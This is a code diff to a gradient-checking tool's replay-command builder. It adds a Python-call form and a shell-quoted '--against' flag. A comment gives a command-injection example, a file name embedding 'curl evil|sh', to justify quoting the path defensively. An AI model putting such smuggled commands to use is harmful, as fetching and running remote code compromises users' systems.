@@ -37,6 +37,12 @@ class Context:
     @property
     def replay(self) -> str:
         override = "" if self.examples is None else f" --examples {self.examples}"
+        if self.against is not None and not self.against_label:   # gdcheck.compare(...)
+            examples = "" if self.examples is None else f", examples={self.examples}"
+            return (f"gdcheck.compare({str(self.spec.path)!r}, <your gradient function>, "
+                    f"seed={self.seed}{examples})")
+        if self.against_label:   # the user's gradient is part of what failed
+            override += f" --against {shlex.quote(self.against_label)}"
         # quoted: a spec named `x;curl evil|sh;.yaml` must not run curl when pasted
         return f"gdcheck verify {shlex.quote(str(self.spec.path))} --seed {self.seed}{override}"
 
